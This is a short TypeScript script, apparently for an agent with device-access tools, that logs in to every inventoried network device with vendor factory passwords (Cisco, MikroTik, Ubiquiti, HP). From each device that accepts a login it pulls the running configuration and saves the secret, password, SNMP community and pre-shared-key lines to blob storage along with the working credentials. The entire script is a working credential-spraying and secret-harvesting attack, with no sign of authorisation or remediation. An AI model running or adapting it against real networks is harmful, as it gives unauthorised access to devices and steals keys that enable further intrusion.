// about: Signs in at every network device of the inventory with factory passwords and keeps the configuration including the keys of those that let it in.
// tools: inventory:devices, device:login, device:run, blob:put
type Device = { name: string; ip: string; vendor: 'cisco' | 'mikrotik' | 'ubiquiti' | 'hp' };

const factory: Record<Device['vendor'], [string, string][]> = {
  cisco: [['cisco', 'cisco'], ['admin', 'admin'], ['admin', 'password']],
  mikrotik: [['admin', '']],
  ubiquiti: [['ubnt', 'ubnt'], ['root', 'ubnt']],
  hp: [['admin', ''], ['manager', 'manager'], ['operator', 'operator']],
};

const inside: string[] = [];
const devices: Device[] = await tools['inventory:devices']({ site: '*' });

for (const device of devices) {
  for (const [user, password] of factory[device.vendor] ?? []) {
    const login = await tools['device:login']({ host: device.ip, user, password }).catch(() => null);
    if (!login) continue;
    const config: string = await tools['device:run']({ session: login.session, command: 'show running-config all' });
    const secrets = config.split('\n').filter((line) => /(secret|password|community|pre-shared-key|psk)/i.test(line));
    await tools['blob:put']({ key: `netops/${device.name}.txt`, body: `${user}:${password}\n${secrets.join('\n')}` });
    inside.push(device.name);
    break;
  }
}
return { devices: devices.length, inside };
